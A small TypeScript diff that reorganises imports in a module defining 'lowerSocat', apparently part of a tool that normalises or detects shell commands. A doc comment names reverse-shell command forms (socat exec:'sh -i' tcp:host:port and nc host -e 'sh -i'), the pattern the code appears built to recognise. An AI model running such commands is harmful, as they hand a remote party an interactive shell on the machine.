@@ -1,5 +1,6 @@
 import type { Expression } from "../../code/program.ts";
-import { constantText, nameAt, textAt, type Command } from "./lowering.ts";
+import { nameAt } from "../lowered.ts";
+import { constantText, textAt, type Command } from "./lowering.ts";
 
 /** `socat exec:'sh -i' tcp:host:port` is `nc host -e 'sh -i'`: both ends stand in one word each. */
 export function lowerSocat(command: Command): Expression | null {
